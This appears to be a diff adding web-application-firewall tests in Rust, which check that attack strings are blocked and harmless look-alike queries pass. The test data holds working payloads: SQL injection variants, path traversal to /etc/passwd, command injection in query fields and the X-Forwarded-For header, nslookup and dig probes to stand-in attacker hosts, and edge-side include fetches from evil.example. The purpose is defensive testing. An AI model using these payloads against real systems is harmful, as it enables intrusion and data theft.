@@ -7,7 +7,10 @@
 
 mod common;
 
-use common::{assert_queries, form_blocked, json_blocked, query_blocked, verdict};
+use common::{
+    assert_queries, form_blocked, header_blocked, json_blocked, multipart_blocked, query_blocked,
+    verdict,
+};
 
 /// Filler a text field really carries: words and punctuation, no attack.
 fn filler(n: usize) -> String {
@@ -165,4 +168,206 @@ fn overlong_dots_after_a_stray_percent_are_a_traversal() {
         "f=%25%25c0%256e%25c0%256e%255cetc%255cpasswd"
     ));
     assert!(!query_blocked("q=up+50%25...+then+down"));
+}
+
+/// Session 9: a number literal ends where a database's lexer ends it, so a
+/// keyword glued to it is a keyword: MySQL reads `1e0union`, `1.0union`,
+/// `\Nunion` as a number (or NULL) then `union`; SQL Server and
+/// PostgreSQL < 15 read `1union`, `1or`. Hex, bit and national string
+/// literals (`x'50'`, `b'1'`, `n'a'`) are strings. Before: score 0 each.
+#[test]
+fn sql_literals_glued_to_keywords_and_prefixed_strings() {
+    assert_queries(
+        true,
+        &[
+            "id=1e0union+select+1,2",
+            "id=1e0UnIoN+SeLeCt+1,2",
+            "id=1.0union+select+1,2",
+            "id=-1.e1union(select+1,2)",
+            "id=%5CNunion+select+1,2",
+            "id=1+or+x'50'=x'50'",
+            "id=1+or+b'1'=b'1'",
+            "id=1'+or+n'a'=n'a'--",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "q=3rd+floor,+room+10b",
+            "q=10px+or+12px",
+            "q=version+1.2beta+or+1.3rc",
+            "q=1.5x+zoom+and+2.0x",
+            "q=4x4+or+6x6+tyres",
+            "q=size+10.5uk+or+11uk",
+            "q=n'importe+quoi",
+            "q=rock+n'+roll",
+            "q=x'mas+sale",
+            "q=1st+and+2nd",
+            "q=12.5%25+off,+select+items",
+        ],
+    );
+}
+
+/// Session 9: an out-of-band probe (`& nslookup x.collaborator.example &`,
+/// Burp's `&nslookup evil.example&'\"`0&nslookup …`) names a host, not a
+/// path or option: a host name is a network tool's shell-shaped argument.
+/// Before: score 0 each.
+#[test]
+fn network_tool_with_a_host_name_after_a_separator() {
+    assert_queries(
+        true,
+        &[
+            "host=x+%26+nslookup+x.attacker.example+%26",
+            "host=%26nslookup+evil.example%26'%5C%22%600%26nslookup+evil.example%26%60'",
+            "host=x%7Cnslookup+evil.example%7C",
+            "host=x%7C+nslookup+x.attacker.example",
+            "host=a;dig+evil.example",
+            "host=a;host+evil.example",
+            "host=a%0awhois+evil.example",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "q=Tom+%26+Jerry",
+            "q=Hosting+%7C+host+your+own+site",
+            "q=dig+deeper;+host+parties",
+            "q=Q%26A+%7C+ping+pong",
+            "q=web+%26+host+example.com",
+            "q=Tom+%26+ping+pong.com",
+            "q=Shop+%7C+host.example.com",
+        ],
+    );
+}
+
+/// Session 9: a name is attack surface like a value (#14) in every
+/// placement: multipart field names (read as part headers only before),
+/// and traversal in query names and JSON keys. Before: score 0 each.
+#[test]
+fn names_are_inspected_in_every_placement() {
+    assert!(multipart_blocked(&[(
+        "x' union select password from users--",
+        "1"
+    )]));
+    assert!(multipart_blocked(&[(";cat /etc/passwd", "1")]));
+    assert!(query_blocked("..%2f..%2f..%2fetc%2fpasswd=1"));
+    assert!(query_blocked("../../../etc/passwd=1"));
+    assert!(json_blocked(r#"{"../../../etc/passwd": 1}"#));
+    assert!(json_blocked(
+        r#"{"\u002e\u002e/\u002e\u002e/etc/passwd": 1}"#
+    ));
+    assert!(!multipart_blocked(&[
+        ("user[email]", "a@example.com"),
+        ("files[]", "x"),
+        ("data[0][name]", "Ann"),
+        ("g-recaptcha-response", "03AGdBq24"),
+    ]));
+    assert!(!json_blocked(
+        r#"{"/api/v1/users": 1, "@context": "https://schema.org", "a.b.c": 2}"#
+    ));
+}
+
+/// Session 9: the client address header is application input (logged,
+/// passed to scripts): command injection in it is read as in a value.
+/// Before: score 0 each.
+#[test]
+fn command_injection_in_x_forwarded_for() {
+    for v in ["127.0.0.1;whoami", "127.0.0.1$(id)", "10.0.0.1`id`"] {
+        assert!(header_blocked("X-Forwarded-For", v.as_bytes()), "{v}");
+    }
+    for v in [
+        "203.0.113.5, 10.0.0.1",
+        "2001:db8::1, 10.0.0.1",
+        "unknown, 10.0.0.1",
+    ] {
+        assert!(!header_blocked("X-Forwarded-For", v.as_bytes()), "{v}");
+    }
+}
+
+/// `..%%32%66` decodes to `../` in two rounds (the inner `%32%66` first,
+/// as IIS's double decoding and a second `urldecode` do): caught in a
+/// JSON value as in a query. (PayloadsAllTheThings' `..%%32%%66etc…`
+/// decodes to `..%2%fetc` then `..%2\xfetc` under every decoder: no
+/// separator, not a traversal; see docs/waf-measurement.md.)
+#[test]
+fn double_percent_traversal_in_json() {
+    assert!(json_blocked(
+        r#"{"f": "..%%32%66..%%32%66etc%%32%66passwd"}"#
+    ));
+}
+
+/// Session 9: a prefix that runs the next word (`eval`, `exec`, `sudo`,
+/// `nohup`, `time`…), a subshell `(` or a negation `!` keeps the command
+/// position open. Before: score 0 each.
+#[test]
+fn command_prefixes_and_subshells_keep_the_command_position() {
+    assert_queries(
+        true,
+        &[
+            "h=a;eval+id",
+            "h=a;exec+id",
+            "h=a%7Csudo+whoami",
+            "h=a;command+uname",
+            "h=a;(id)",
+            "h=a;!+id",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "q=notes;+exec+summary",
+            "q=Sales;+time+management",
+            "q=color:red;!important",
+            "q=see+page+3;+(id+est)",
+        ],
+    );
+}
+
+/// Session 9: edge-side includes, the cache-side neighbour of SSI
+/// (Varnish, Akamai, Squid, Fastly parse them): an include of a URL,
+/// variables (`$(HTTP_COOKIE)`), debug output. Before: score 0 each but
+/// the `esi:inline` line (5, as XSS: rule 2013).
+#[test]
+fn edge_side_includes() {
+    assert_queries(
+        true,
+        &[
+            "q=x+%3Cesi:include+src=%22http://evil.example/%22/%3E",
+            "q=%3C!--esi+%3Cesi:include+src=%22http://evil.example/%22/%3E+--%3E",
+            "q=%3Cesi:inline+name=%22/x%22+src=%22http://evil.example/%22/%3E",
+            "q=x%3Cesi:debug/%3E",
+            "q=%3Cesi:vars%3Ehello%3C/esi:vars%3E",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "q=how+to+configure+esi+includes+in+varnish",
+            "q=ESI:+edge+side+includes",
+        ],
+    );
+}
+
+/// Session 9: MySQL 8's `VALUES` and `TABLE` statements after UNION
+/// (`' union table users--`), and `!` as NOT. Before: score 0 each.
+#[test]
+fn union_values_table_and_bang_not() {
+    assert_queries(
+        true,
+        &[
+            "id='+union+values(1)--",
+            "id=1+union+values+row(1,2)",
+            "id='+union+table+users--",
+            "id=1+and+!(1=2)",
+        ],
+    );
+    assert_queries(
+        false,
+        &[
+            "q=European+Union+table+tennis+open",
+            "q=union+values+and+rights",
+            "q=it's+the+union+table+at+noon",
+            "q=wow!+(great)",
+        ],
+    );
 }
